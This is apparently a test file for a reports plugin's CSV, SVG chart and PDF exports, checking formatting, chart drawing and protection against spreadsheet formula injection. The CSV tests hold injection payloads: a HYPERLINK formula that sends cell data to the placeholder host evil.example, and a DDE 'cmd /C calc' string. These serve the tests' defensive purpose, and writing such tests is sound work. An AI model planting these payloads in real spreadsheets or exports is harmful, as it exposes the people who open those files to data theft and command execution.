"""Report exports (plugins/reports): the CSV people open in a spreadsheet, the SVG charts and
the PDF that shows both.

The CSV: RFC 4180, and no cell (headers included) that starts like a formula: = + - @ tab CR. The charts: well-formed SVG whatever the labels hold,
"No data" rather than a broken drawing when there is nothing to draw. The PDF: real
WeasyPrint, read back as text: the figures, the labels and the chart drawings are there.
"""

from __future__ import annotations

import base64
import csv
import io
import xml.etree.ElementTree as ElementTree
from decimal import Decimal
from typing import Any

import pytest
from pypdf import PdfReader

from core.documents import render_html, render_pdf
from core.documents.catalog import SAMPLE_TENANT, with_tenant
from core.documents.render import check_override
from core.runtime import Runtime
from core.tenancy import tenant_scope
from plugins.reports.charts import NO_DATA, chart_data_uri, chart_svg
from plugins.reports.csv_export import csv_filename, table_csv
from plugins.reports.document import (
    NAME,
    SAMPLE,
    render_report_pdf,
    report_context,
    report_template,
)
from plugins.reports.table import Chart, ChartKind, Column, Kind, ReportTable
from tests.support import World, pdf_text

SVG = "{http://www.w3.org/2000/svg}"
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
TENANT = {"name": "北京科技有限公司 Beijing Tech Co., Ltd.", "logo": None}

COLUMNS = [
    Column("owner", "Owner", Kind.TEXT),
    Column("deals", "Deals", Kind.COUNT),
    Column("won", "Won", Kind.MONEY),
    Column("rate", "Win rate", Kind.RATE),
    Column("days", "Cycle days", Kind.DAYS),
]


def report(
    rows: list[dict[str, Any]],
    *,
    columns: list[Column] | None = None,
    totals: dict[str, Any] | None = None,
    currency: str | None = "CNY",
    charts: list[Chart] | None = None,
) -> ReportTable:
    return ReportTable(
        name="winRate",
        title="Win rate",
        subtitle="2026-01-01 to 2026-03-31, by owner",
        currency=currency,
        columns=columns or COLUMNS,
        rows=rows,
        totals=totals,
        charts=charts or [],
    )


def csv_rows(table: ReportTable) -> list[list[str]]:
    """The CSV as a spreadsheet importer splits it."""
    return list(csv.reader(io.StringIO(table_csv(table), newline="")))


def owner(name: str, **values: Any) -> dict[str, Any]:
    return {"owner": name, "deals": 3, "won": Decimal("100.00"), "rate": 0.5, "days": 4.0, **values}


# -- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS)
def test_a_label_that_starts_like_a_formula_is_quoted_so_spreadsheets_show_it_as_text(
    start: str,
) -> None:
    label = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    header, row = csv_rows(report([owner(label)]))
    assert row[0] == "'" + label


@pytest.mark.parametrize("start", DANGEROUS)
def test_a_column_title_that_starts_like_a_formula_is_quoted_too(start: str) -> None:
    columns = [Column("owner", f"{start}cmd|' /C calc'!A0", Kind.TEXT), *COLUMNS[1:]]
    header, _ = csv_rows(report([owner("Li Na")], columns=columns))
    assert header[0] == f"'{start}cmd|' /C calc'!A0"


def test_a_totals_label_that_starts_like_a_formula_is_quoted() -> None:
    *_, totals = csv_rows(report([owner("Li Na")], totals={"owner": "=1+1", "deals": 3}))
    assert totals[:2] == ["'=1+1", "3"]


def test_ordinary_text_and_numbers_are_left_as_they_are() -> None:
    labels = ["北京星辰科技", "a=b", "O'Brien", "Smith, John", 'The "best" team', "2026 Q1"]
    rows = csv_rows(report([owner(label) for label in labels]))
    assert [row[0] for row in rows[1:]] == labels
    assert rows[0] == ["Owner", "Deals", "Won", "Win rate", "Cycle days"]
    assert rows[1][1:] == ["3", "100.00", "50.0%", "4.0"]


def test_every_cell_starting_with_a_minus_is_quoted_numbers_too() -> None:
    row = csv_rows(report([owner("Refunds", won=Decimal("-12.5"), deals=-2)]))[1]
    assert row[1:3] == ["'-2", "'-12.50"]
    row = csv_rows(report([owner("-12.50"), owner("-1+2"), owner("-")]))
    assert [r[0] for r in row[1:]] == ["'-12.50", "'-1+2", "'-"]


@pytest.mark.parametrize(
    ("currency", "amount", "expected"),
    [
        ("CNY", Decimal("1234567.5"), "1234567.50"),  # no thousands separator: a number
        ("CNY", Decimal("0.005"), "0.01"),  # half up, like every amount Tessera stores
        ("CNY", 12, "12.00"),
        ("JPY", Decimal("1500"), "1500"),
        ("KWD", Decimal("1.2345"), "1.235"),
        ("CNY", Decimal("-0.004"), "0.00"),  # rounds to zero, printed without a sign
        ("CNY", None, ""),
    ],
)
def test_money_prints_the_currency_minor_digits(currency: str, amount: Any, expected: str) -> None:
    row = csv_rows(report([owner("Li Na", won=amount)], currency=currency))[1]
    assert row[2] == expected


@pytest.mark.parametrize(
    ("rate", "days", "expected"),
    [
        (0.425, 12.25, ["42.5%", "12.3"]),
        (0.0125, 0.04, ["1.3%", "0.0"]),
        (1, 3, ["100.0%", "3.0"]),
        (None, None, ["", ""]),  # no base to compute a rate on, nothing to measure
    ],
)
def test_rates_are_percentages_and_days_have_one_decimal(
    rate: float | None, days: float | None, expected: list[str]
) -> None:
    row = csv_rows(report([owner("Li Na", rate=rate, days=days)]))[1]
    assert row[3:] == expected


def test_the_totals_row_comes_last_and_is_called_total_when_the_report_left_it_unnamed() -> None:
    totals = {"deals": 7, "won": Decimal("300"), "rate": 0.25, "days": None}
    rows = csv_rows(report([owner("Li Na"), owner("Wang Wei")], totals=totals))
    assert rows[-1] == ["Total", "7", "300.00", "25.0%", ""]
    rows = csv_rows(report([owner("Li Na")], totals={**totals, "owner": "All owners"}))
    assert rows[-1][0] == "All owners"
    assert len(csv_rows(report([owner("Li Na")]))) == 2  # no totals, no extra line


def test_the_csv_is_rfc_4180() -> None:
    text = table_csv(report([owner("Smith, John"), owner('Say "hi"\nthere')]))
    assert text.split("\r\n")[:2] == [
        "Owner,Deals,Won,Win rate,Cycle days",
        '"Smith, John",3,100.00,50.0%,4.0',
    ]
    assert '"Say ""hi""\nthere",3' in text
    assert text.endswith("\r\n")


def test_the_csv_file_is_named_after_the_report() -> None:
    assert csv_filename(report([])) == "winRate.csv"
    assert csv_filename(ReportTable('Q1 "won"\r\n', "t", "s", None, [], [])) == "Q1-won.csv"


# -- charts ----------------------------------------------------------------------------------


def svg_root(svg: str) -> ElementTree.Element:
    root = ElementTree.fromstring(svg)
    assert root.tag == f"{SVG}svg"
    width, height = float(root.attrib["width"]), float(root.attrib["height"])
    assert root.attrib["viewBox"] == f"0 0 {width:g} {height:g}"
    return root


def texts(root: ElementTree.Element) -> list[str]:
    return [element.text or "" for element in root.iter(f"{SVG}text")]


HOSTILE = ["<b>x</b>", "R&D 研发", 'a"b', "bell\x07"]  # short: long labels are cut with "…"
SERIES_COLUMNS = [
    Column("owner", "负责人 Owner", Kind.TEXT),
    Column("won", "Won & kept", Kind.MONEY),
    Column("lost", "Lost <net>", Kind.MONEY),
]


def chart_of(kind: ChartKind, rows: list[dict[str, Any]]) -> str:
    chart = Chart(kind, "Won and lost", "owner", ("won", "lost"))
    return chart_svg(chart, report(rows, columns=SERIES_COLUMNS, charts=[chart]))


@pytest.mark.parametrize("kind", list(ChartKind))
def test_every_chart_kind_draws_well_formed_svg_with_the_labels_as_text(kind: ChartKind) -> None:
    rows = [
        {"owner": label, "won": Decimal(1000 * (4 - i)), "lost": 300 * i}
        for i, label in enumerate(HOSTILE)
    ]
    root = svg_root(chart_of(kind, rows))
    drawn = texts(root)
    for label in HOSTILE[:3]:
        assert label in drawn
    assert "bell" in drawn  # the control character XML cannot hold is dropped, not the label
    if kind is ChartKind.FUNNEL:
        assert "4,000.00" in drawn  # each bar carries its value
    else:
        assert {"Won & kept", "Lost <net>"} <= set(drawn)  # the legend


@pytest.mark.parametrize("kind", list(ChartKind))
@pytest.mark.parametrize(
    "rows",
    [
        [],
        [{"owner": "Li Na", "won": 0, "lost": Decimal("0.00")}],
        [{"owner": "Li Na", "won": None, "lost": None}, {"owner": "Wang Wei"}],
    ],
    ids=["no rows", "zeros", "missing values"],
)
def test_a_chart_with_nothing_to_draw_says_no_data(
    kind: ChartKind, rows: list[dict[str, Any]]
) -> None:
    root = svg_root(chart_of(kind, rows))
    assert texts(root) == [NO_DATA]


def test_bars_have_round_gridline_values_and_go_below_zero_for_losses() -> None:
    rows = [
        {"owner": "Li Na", "won": Decimal("8500.00"), "lost": -1200.0},
        {"owner": "Wang Wei", "won": 4000, "lost": 250},
    ]
    drawn = texts(svg_root(chart_of(ChartKind.BARS, rows)))
    assert {"-2.5k", "0", "2.5k", "5k", "7.5k", "10k"} <= set(drawn)


def test_a_rate_axis_reads_in_percent() -> None:
    columns = [Column("month", "Month", Kind.TEXT), Column("rate", "Win rate", Kind.RATE)]
    chart = Chart(ChartKind.LINES, "Win rate", "month", ("rate",))
    rows = [{"month": "2026-01", "rate": 0.2}, {"month": "2026-02", "rate": 0.55}]
    drawn = texts(svg_root(chart_svg(chart, report(rows, columns=columns))))
    assert {"0%", "20%", "40%", "60%"} <= set(drawn)


def test_a_line_breaks_where_a_value_is_missing() -> None:
    columns = [Column("month", "Month", Kind.TEXT), Column("won", "Won", Kind.MONEY)]
    chart = Chart(ChartKind.LINES, "Won", "month", ("won",))
    values = [Decimal(5), 7.5, None, 3, 4]  # Decimal, float, int and a gap
    rows = [{"month": f"2026-0{i + 1}", "won": v} for i, v in enumerate(values)]
    root = svg_root(chart_svg(chart, report(rows, columns=columns)))
    lines = [p.attrib["points"].split() for p in root.iter(f"{SVG}polyline")]
    legend, *drawn = lines
    assert [len(points) for points in drawn] == [2, 2]


def test_funnel_bars_are_centred_and_narrow_with_the_values() -> None:
    columns = [Column("step", "Step", Kind.TEXT), Column("count", "Count", Kind.COUNT)]
    chart = Chart(ChartKind.FUNNEL, "Funnel", "step", ("count",))
    steps = [("Leads 线索", 5000), ("Qualified", 900), ("Won 赢单", 40)]
    rows = [{"step": step, "count": count} for step, count in steps]
    root = svg_root(chart_svg(chart, report(rows, columns=columns)))
    bars = [(float(r.attrib["x"]), float(r.attrib["width"])) for r in root.iter(f"{SVG}rect")]
    widths = [width for _, width in bars]
    assert widths == sorted(widths, reverse=True) and widths[-1] > 0
    assert len({round(x + width / 2) for x, width in bars}) == 1
    assert {"Leads 线索", "5,000", "Qualified", "900", "Won 赢单", "40"} <= set(texts(root))


def test_a_chart_may_draw_rows_of_its_own() -> None:
    columns = [Column("step", "Step", Kind.TEXT), Column("count", "Count", Kind.COUNT)]
    chart = Chart(ChartKind.FUNNEL, "All", "step", ("count",), rows=[{"step": "All", "count": 9}])
    table = report([{"step": "East", "count": 4}], columns=columns)
    drawn = texts(svg_root(chart_svg(chart, table)))
    assert "All" in drawn and "East" not in drawn


def test_the_data_uri_carries_the_svg() -> None:
    svg = chart_of(ChartKind.BARS, [{"owner": "李娜", "won": 1, "lost": 2}])
    uri = chart_data_uri(svg)
    prefix = "data:image/svg+xml;base64,"
    assert uri.startswith(prefix)
    assert base64.b64decode(uri.removeprefix(prefix)).decode("utf-8") == svg


# -- PDF -------------------------------------------------------------------------------------


def pdf_of(table: ReportTable) -> bytes:
    template = report_template()
    context = with_tenant(report_context(table), TENANT)
    return render_pdf(render_html(template.name, template.source, context))


def pages_of(pdf: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages]


def sales_report(owners: int) -> ReportTable:
    names = ["李娜", "王伟 Wang Wei", "Zhang Min", "陈静"]
    rows = [
        {
            "owner": names[i % len(names)] + (f" {i}" if i >= len(names) else ""),
            "deals": 10 + i,
            "won": Decimal("12345.60") * (i + 1),
            "rate": 0.425,
            "days": 12.25,
        }
        for i in range(owners)
    ]
    return report(
        rows,
        totals={"deals": 99, "won": Decimal("123456.78"), "rate": 0.3, "days": 14.0},
        charts=[
            Chart(ChartKind.FUNNEL, "商机 Deals by owner", "owner", ("deals",)),
            Chart(ChartKind.BARS, "赢单 Won by owner", "owner", ("won",)),
        ],
    )


def test_the_pdf_shows_the_report_its_charts_and_its_table_on_one_page() -> None:
    pdf = pdf_of(sales_report(owners=4))
    (text,) = pages_of(pdf)
    for expected in ["Win rate", "2026-01-01 to 2026-03-31, by owner", "CNY"]:
        assert expected in text  # title, subtitle, currency
    for expected in ["商机 Deals by owner", "赢单 Won by owner", "20k", "60k"]:
        assert expected in text  # the charts' captions and drawn axis values
    for expected in ["李娜", "王伟 Wang Wei", "12,345.60", "49,382.40", "42.5%", "12.3"]:
        assert expected in text  # the table, amounts grouped for reading
    assert "Total 99 123,456.78 30.0% 14.0" in text


def test_a_long_report_keeps_charts_whole_and_repeats_the_headers_but_not_the_total() -> None:
    pages = pages_of(pdf_of(sales_report(owners=40)))
    # The 40-step funnel, shrunk to fit under the title; the bars and the table's start; the
    # table's rest.
    assert len(pages) == 3
    assert "商机 Deals by owner" in pages[0] and "赢单 Won by owner" in pages[1]
    assert all("Owner Deals Won Win rate Cycle days" in page for page in pages[1:])
    assert [page.count("Total") for page in pages] == [0, 0, 1]
    assert "Total 99 123,456.78" in pages[2]


def test_a_report_without_rows_prints_no_data() -> None:
    table = report([], charts=[Chart(ChartKind.BARS, "赢单 Won", "owner", ("won",))])
    text = pdf_text(pdf_of(table))
    assert text.count("No data") == 2  # in the chart and in the table


async def test_the_template_renders_its_sample_as_a_tenant_override_must() -> None:
    template = report_template()
    assert template.name == NAME and template.sample is SAMPLE
    await check_override(template, template.source, SAMPLE_TENANT)


async def test_a_tenant_gets_the_pdf_on_its_own_letterhead(runtime: Runtime, world: World) -> None:
    with tenant_scope(world.tenant.id):
        text = pdf_text(await render_report_pdf(runtime, sales_report(owners=2)))
    assert world.tenant.name in text
    assert "王伟 Wang Wei" in text and "24,691.20" in text
